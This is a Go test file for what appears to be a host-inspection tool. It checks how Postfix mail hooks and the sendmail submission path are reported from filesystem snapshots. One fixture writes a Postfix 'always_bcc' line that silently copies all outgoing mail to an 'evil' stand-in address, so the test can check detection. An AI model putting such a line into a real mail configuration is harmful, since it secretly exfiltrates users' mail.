package mailpath_test

import (
	"strings"
	"testing"

	"waxseal"
	"waxseal/internal/mailpath"
	"waxseal/internal/mask"
	"waxseal/internal/snapshot"
)

// installed is a package database that knows one package with its files.
func installed(name string, files ...string) map[waxseal.Path]snapshot.Object {
	tree := map[waxseal.Path]snapshot.Object{
		"/var/lib/dpkg/status":                               {Content: []byte("Package: " + name + "\nStatus: install ok installed\nVersion: 1.0-1\nArchitecture: amd64\n\n")},
		"/var/lib/dpkg/info/" + waxseal.Path(name) + ".list": {Content: []byte(strings.Join(files, "\n") + "\n")},
	}
	for _, f := range files {
		tree[waxseal.Path(f)] = snapshot.Object{File: waxseal.File{Mode: 0o755}, Content: []byte("\x7fELF of " + f)}
	}
	return tree
}

func readObjects(tree map[waxseal.Path]snapshot.Object) waxseal.State {
	return mailpath.NewReader(mask.New([]byte("k"))).Read(snapshot.New(tree))
}

// TestRemains: the configuration that a removed package left is read by nobody.
// Where the tree may be a part of a host, nothing says that it was removed.
func TestRemains(t *testing.T) {
	for _, tc := range []struct {
		name   string
		change func(tree map[waxseal.Path]snapshot.Object)
		active bool
	}{
		{"removed", func(map[waxseal.Path]snapshot.Object) {}, false},
		{"built by hand", func(tree map[waxseal.Path]snapshot.Object) {
			tree["/usr/local/sbin/postfix"] = snapshot.Object{Content: []byte("\x7fELF")}
		}, true},
		{"no programs in the tree", func(tree map[waxseal.Path]snapshot.Object) { delete(tree, "/usr/sbin/other") }, true},
		{"no package database", func(tree map[waxseal.Path]snapshot.Object) {
			delete(tree, "/var/lib/dpkg/status")
			delete(tree, "/var/lib/dpkg/info/msmtp-mta.list")
		}, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tree := installed("msmtp-mta", "/usr/sbin/other", "/usr/bin/msmtp")
			tree["/etc/postfix/main.cf"] = snapshot.Object{Content: []byte("always_bcc = x@evil.example.net\n")}
			tc.change(tree)
			h := hook(t, readObjects(tree), "always_bcc")
			if h.Active != tc.active || tc.active == strings.Contains(h.Modifiers["inactive"], "Postfix is not installed") {
				t.Errorf("active %v, %v", h.Active, h.Modifiers)
			}
		})
	}
}

// TestSubmission: whose sendmail(1) is, is told where that is a question.
func TestSubmission(t *testing.T) {
	const main = "/etc/postfix/main.cf"
	postfix := func() map[waxseal.Path]snapshot.Object {
		tree := installed("postfix", "/usr/sbin/postfix", "/usr/sbin/sendmail")
		tree[main] = snapshot.Object{Content: []byte("myhostname = mail.example.test\n")}
		return tree
	}
	if s := readObjects(postfix()); hasHook(s, "submission") {
		t.Error("with one mail system there is no question")
	}
	tree := postfix()
	tree["/var/lib/dpkg/info/nullmailer.list"] = snapshot.Object{Content: []byte("/usr/sbin/nullmailer-inject\n")}
	tree["/var/lib/dpkg/status"] = snapshot.Object{Content: append(tree["/var/lib/dpkg/status"].Content, "Package: nullmailer\nStatus: install ok installed\nVersion: 2\nArchitecture: amd64\n\n"...)}
	tree["/usr/sbin/nullmailer-inject"] = snapshot.Object{File: waxseal.File{Mode: 0o755}, Content: []byte("\x7fELF")}
	tree["/usr/sbin/sendmail"] = snapshot.Object{File: waxseal.File{Type: waxseal.Symlink, Link: "nullmailer-inject"}}
	h := hook(t, readObjects(tree), "submission")
	if h.Target.Value != "nullmailer" || !strings.Contains(h.Explain, "and not to Postfix, which is set up here") {
		t.Errorf("%+v: %s", h.Target, h.Explain)
	}
}

func hasHook(s waxseal.State, part string) bool {
	for _, h := range s.Hooks {
		if strings.Contains(string(h.ID), part) {
			return true
		}
	}
	return false
}
